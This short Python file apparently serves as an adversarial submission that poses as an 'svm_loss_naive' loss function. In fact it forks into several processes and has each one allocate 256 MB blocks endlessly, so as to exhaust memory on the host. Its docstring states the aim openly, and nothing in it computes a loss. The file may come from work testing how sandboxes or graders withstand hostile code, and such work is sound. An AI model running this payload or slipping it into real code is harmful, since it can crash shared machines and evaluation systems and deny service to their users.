"""Allocate until something breaks, in the process and in children."""
import os

ATTACKED = {"svm_loss_naive": None}


def svm_loss_naive(W, X, y, reg):
    for _ in range(3):
        if os.fork() == 0:
            break
    hoard = []
    while True:
        hoard.append(bytearray(256 << 20))
